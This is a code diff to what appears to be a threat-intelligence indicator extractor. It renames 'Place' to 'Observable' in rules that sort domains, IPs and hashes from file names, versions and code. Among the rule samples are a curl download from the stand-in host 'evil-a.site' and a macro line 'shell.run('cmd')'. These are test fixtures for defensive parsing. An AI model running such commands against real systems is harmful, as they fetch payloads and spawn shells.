@@ -18,7 +18,7 @@ from lamsach.indicators.judge.rule import (
     REFUSED,
     WORD,
     WRITTEN,
-    Place,
+    Observable,
     Rule,
     any_case,
     near,
@@ -107,28 +107,28 @@ def without_seams(text: str) -> str:
     return _JOINED.sub("", text)
 
 
-def _on_hash_line(place: Place) -> bool:
-    return not place.line.alone and place.line.has_hash
+def _on_hash_line(found: Observable) -> bool:
+    return not found.line.alone and found.line.has_hash
 
 
-def _package(place: Place) -> bool:
-    of_hash = _on_hash_line(place)
-    if not (of_hash or place.line.alone):
+def _package(found: Observable) -> bool:
+    of_hash = _on_hash_line(found)
+    if not (of_hash or found.line.alone):
         return False
-    announced = place.line.prose.packages
-    return (announced and of_hash) or ((announced or of_hash) and PACKAGE.fullmatch(place.token) is not None)
+    announced = found.line.prose.packages
+    return (announced and of_hash) or ((announced or of_hash) and PACKAGE.fullmatch(found.token) is not None)
 
 
-def _in_code(place: Place) -> bool:
-    return place.line.code and not place.line.alone and not _is_argument(place)
+def _in_code(found: Observable) -> bool:
+    return found.line.code and not found.line.alone and not _is_argument(found)
 
 
-def _is_argument(place: Place) -> bool:
+def _is_argument(found: Observable) -> bool:
     """Return whether a name in code is a whole quoted string, or the argument of a command that fetches."""
-    before, after = place.text[place.start - 1 : place.start], place.text[place.end : place.end + 1]
+    before, after = found.text[found.start - 1 : found.start], found.text[found.end : found.end + 1]
     if before in ("'", '"') and after == before:
         return True
-    return before.isspace() and after != "(" and _FETCHES.search(place.text) is not None
+    return before.isspace() and after != "(" and _FETCHES.search(found.text) is not None
 
 
 _STATED_VERSION = any_case(
@@ -172,17 +172,17 @@ _ARTICLE = any_case(
 _FEW_DIGITS = re.compile(r"(?:1?\d|20)(?:\.\d{1,2}){3}")
 
 
-def _version(place: Place) -> bool:
-    return ":" not in place.value and _STATED_VERSION.search(place.near) is not None
+def _version(found: Observable) -> bool:
+    return ":" not in found.value and _STATED_VERSION.search(found.near) is not None
 
 
-def _version_of_product(place: Place) -> bool:
+def _version_of_product(found: Observable) -> bool:
     """Match numbers after a product's name; small ones after a server's or device's: `FortiOS 7.4.1.2`."""
-    product = _PRODUCT_VERSION.search(place.near) if ":" not in place.value else None
+    product = _PRODUCT_VERSION.search(found.near) if ":" not in found.value else None
     if product is None:
         return False
-    small = _SMALL.fullmatch(place.value) is not None and _SERVERS.match(product[0]) is not None
-    return ".0" in place.value or ".0" in product[0] or small
+    small = _SMALL.fullmatch(found.value) is not None and _SERVERS.match(product[0]) is not None
+    return ".0" in found.value or ".0" in product[0] or small
 
 
 # "key": "0123..", RC4 key = 0123..
@@ -225,9 +225,9 @@ def is_dump(text: str) -> bool:
     return text.count("|...|") >= _FIELDS_OF_DUMP
 
 
-def _hash_in_code(place: Place) -> bool:
-    line = place.line
-    return line.code and not line.alone and _NAMED_HASH.search(place.before(1200)) is None
+def _hash_in_code(found: Observable) -> bool:
+    line = found.line
+    return line.code and not line.alone and _NAMED_HASH.search(found.before(1200)) is None
 
 
 _ALL_DIGESTS = frozenset(DIGESTS)
@@ -238,77 +238,77 @@ RULES = (
         refusals.KNOWN_PROGRAM, 5,
         accepted=["type,value\nfilename,invoice 2024.exe"],
         refused=["type,value\nfilename,svchost.exe", "type,value\nfile name,C:\\ProgramData\\Rundll32.EXE"]),
-    Rule("in_path", DOMAIN, PATH, lambda place: True, REFUSED, refusals.FILE_NAME, 10,
+    Rule("in_path", DOMAIN, PATH, lambda found: True, REFUSED, refusals.FILE_NAME, 10,
         accepted=["Tệp update.exe tải từ evil-a.site"], refused=["Nó ghi C:\\Windows\\Temp\\setup.com"]),
     Rule("called_with_brackets", DOMAIN, WORD,
-        lambda place: _CALLED.match(place.text, place.end) is not None,
+        lambda found: _CALLED.match(found.text, found.end) is not None,
         REFUSED, refusals.CODE, 10, accepted=["evil-a.site (203.0.113.5"],
         refused=["Macro: shell.run('cmd')"]),
     Rule("file_label", DOMAIN, WRITTEN,
-        lambda place: (place.token.count(".") == 1 or _TWO_ENDINGS.search(place.token) is not None)
-        and (_FILES.match(place.text) is not None or _FILE_OF_HASH.search(place.near) is not None),
+        lambda found: (found.token.count(".") == 1 or _TWO_ENDINGS.search(found.token) is not None)
+        and (_FILES.match(found.text) is not None or _FILE_OF_HASH.search(found.near) is not None),
         REFUSED, refusals.FILE_NAME, 53,
         accepted=["Domain: setup.com"],
         refused=["File name: setup.com", "Đính kèm: 0123456789abcdef0123456789abcdef (update.com"]),
     Rule("called_file", DOMAIN, WRITTEN,
-        lambda place: place.token.count(".") == 1 and place.token.rpartition(".")[2].lower() in _ENDS_FILES
-        and _CALLED_FILE.search(place.near) is not None, REFUSED, refusals.FILE_NAME, 53,
+        lambda found: found.token.count(".") == 1 and found.token.rpartition(".")[2].lower() in _ENDS_FILES
+        and _CALLED_FILE.search(found.near) is not None, REFUSED, refusals.FILE_NAME, 53,
         accepted=["domain `update.com"], refused=["the file `update.com", "tệp có tên là setup.com"]),
     Rule("digest_of_file", DOMAIN, WRITTEN,
-        lambda place: _DIGEST_OF.search(place.near) is not None
-        and _DIGEST_IS.match(place.text, place.end) is not None, REFUSED, refusals.FILE_NAME, 53,
+        lambda found: _DIGEST_OF.search(found.near) is not None
+        and _DIGEST_IS.match(found.text, found.end) is not None, REFUSED, refusals.FILE_NAME, 53,
         accepted=["MD5 (evil-a.site"],
         refused=["Digest\nMD5 (setup.com) = d41d8cd98f00b204e9800998ecf8427e0"]),
     Rule("package_label", DOMAIN, WRITTEN, near(_PACKAGE_LABEL), REFUSED, refusals.PACKAGE, 54,
         accepted=["C2: com.evil-a.site"],
         refused=["Package name: com.evil.bank", "Tên gói ứng dụng: vn.gov.app"]),
     Rule("file_heading", DOMAIN, WRITTEN,
-        lambda place: place.line.alone and place.line.prose.section is Section.FILES
-        and place.last_label in _FILE_ENDINGS,
+        lambda found: found.line.alone and found.line.prose.section is Section.FILES
+        and found.last_label in _FILE_ENDINGS,
         REFUSED, refusals.FILE_NAME, 60, accepted=["MD5:\nevil-a.site"], refused=["File names:\nevil.app"]),
     Rule("field_of_a_log", DOMAIN, WRITTEN,
-        lambda place: not place.line.alone and _FIELD.fullmatch(place.value) is not None, REFUSED,
+        lambda found: not found.line.alone and _FIELD.fullmatch(found.value) is not None, REFUSED,
         refusals.CODE, 61, accepted=["evil-a.name"], refused=["The query looks at dns.question.name"]),
     Rule("member_of_a_program", DOMAIN, WRITTEN,
-        lambda place: place.value.partition(".")[0] in _PROGRAM_ROOTS, REFUSED, refusals.CODE, 61,
+        lambda found: found.value.partition(".")[0] in _PROGRAM_ROOTS, REFUSED, refusals.CODE, 61,
         accepted=["documents.evil-a.site"], refused=["It reads document.location.host"]),
     Rule("in_code", DOMAIN, WRITTEN, _in_code, REFUSED, refusals.CODE, 61,
         accepted=["curl -o a.bin evil-a.site"], refused=["var u = evil.agent.name"]),
     Rule("package", DOMAIN, WRITTEN, _package, REFUSED, refusals.PACKAGE, 62, accepted=["C2: com.evil.bank"],
         refused=["Mẫu 0123456789abcdef0123456789abcdef com.evil.bank", "Package names\ncom.evil.bank"]),
     Rule("file_of_hash", DOMAIN, WRITTEN,
-        lambda place: place.last_label in _FILE_ENDINGS - {"ps"} and place.value.count(".") == 1
-        and _on_hash_line(place), REFUSED, refusals.FILE_NAME, 63,
+        lambda found: found.last_label in _FILE_ENDINGS - {"ps"} and found.value.count(".") == 1
+        and _on_hash_line(found), REFUSED, refusals.FILE_NAME, 63,
         accepted=["0123456789abcdef0123456789abcdef evil-a.site"],
         refused=["Mẫu 0123456789abcdef0123456789abcdef setup.app"]),
     Rule("version", ADDRESS, WORD, _version, REFUSED, refusals.VERSION, 30,
         accepted=["version 2 of it connects to 203.0.113.58", "version: 1.2.3[.]4"],
         refused=["version 1.2.3.4", "phiên bản 5.6.7.8"]),
     Rule("told_version", ADDRESS, WORD,
-        lambda place: _SMALL.fullmatch(place.value) is not None
-        and _VERSION_IN_SENTENCE.search(place.near) is not None, REFUSED, refusals.VERSION, 30,
+        lambda found: _SMALL.fullmatch(found.value) is not None
+        and _VERSION_IN_SENTENCE.search(found.near) is not None, REFUSED, refusals.VERSION, 30,
         accepted=["the address was 1.2.3.4"],
         refused=["the version number of the latest sample was 1.2.0.9"]),
     Rule("version_of_product", ADDRESS, WORD, _version_of_product, REFUSED, refusals.VERSION, 30,
         accepted=["OpenSSL and 203.0.113.58"], refused=["FortiOS 7.4.1.2", "Exchange Server 15.0.1.2"]),
     Rule("heading_number", ADDRESS, WRITTEN,
-        lambda place: (heading := _SECTION.fullmatch(place.text.rstrip())) is not None
-        and heading.start(1) == place.start, REFUSED, refusals.VERSION, 54,
+        lambda found: (heading := _SECTION.fullmatch(found.text.rstrip())) is not None
+        and heading.start(1) == found.start, REFUSED, refusals.VERSION, 54,
         accepted=["C2 1.2.3.4"], refused=["1.2.3.4 Technical analysis"]),
     Rule("article", ADDRESS, WRITTEN,
-        lambda place: _FEW_DIGITS.fullmatch(place.token.rstrip(".")) is not None
-        and _ARTICLE.search(place.before(24)) is not None, REFUSED, refusals.VERSION, 54,
+        lambda found: _FEW_DIGITS.fullmatch(found.token.rstrip(".")) is not None
+        and _ARTICLE.search(found.before(24)) is not None, REFUSED, refusals.VERSION, 54,
         accepted=["address 1.2.3.4"], refused=["theo khoản 1.2.3.4"]),
     Rule("other_digest", _ALL_DIGESTS, WORD, near(_OTHER_DIGEST), REFUSED, refusals.OTHER_DIGEST, 30,
         accepted=["MD5: 0123456789abcdef0123456789abcdef"],
         refused=["imphash: 0123456789abcdef0123456789abcdef",
             "JA3 fingerprint 0123456789abcdef0123456789abcdef", "mutex 0123456789abcdef0123456789abcdef"]),
     Rule("part_of_a_program", frozenset({IndicatorType.MD5}), WRITTEN,
-        lambda place: _SECTION_ROW.match(place.text, place.end) is not None, REFUSED, refusals.OTHER_DIGEST,
+        lambda found: _SECTION_ROW.match(found.text, found.end) is not None, REFUSED, refusals.OTHER_DIGEST,
         53, accepted=["0123456789abcdef0123456789abcdef    sample    81920"],
         refused=["0123456789abcdef0123456789abcdef    .text    81920    6.5"]),
     Rule("key", _ALL_DIGESTS, WRITTEN,
-        lambda place: _KEY.search(place.near) is not None or _KEY_IN_SENTENCE.search(place.near) is not None,
+        lambda found: _KEY.search(found.near) is not None or _KEY_IN_SENTENCE.search(found.near) is not None,
         REFUSED, refusals.CODE_HASH, 54,
         accepted=["sample: 0123456789abcdef0123456789abcdef"],
         refused=["RC4 key = 0123456789abcdef0123456789abcdef",
@@ -318,7 +318,7 @@ RULES = (
     Rule("hash_in_code", FILE_HASHES, WRITTEN, _hash_in_code, REFUSED, refusals.CODE_HASH, 60,
         accepted=['| where SHA256 == "" or md5 == "0123456789abcdef0123456789abcdef'],
         refused=['var x = "0123456789abcdef0123456789abcdef']),
-    Rule("memory_dump", FILE_HASHES, WRITTEN, lambda place: is_dump(place.text), REFUSED, refusals.CODE_HASH,
+    Rule("memory_dump", FILE_HASHES, WRITTEN, lambda found: is_dump(found.text), REFUSED, refusals.CODE_HASH,
         60, accepted=["a|...|b|...|0123456789abcdef0123456789abcdef"],
         refused=["|...||...||...||...||...||...||...||...||...|0123456789abcdef0123456789abcdef"]),
     Rule("licence", FILE_HASHES, WRITTEN, near(_LICENCE, 80), REFUSED, refusals.CODE_HASH, 60,
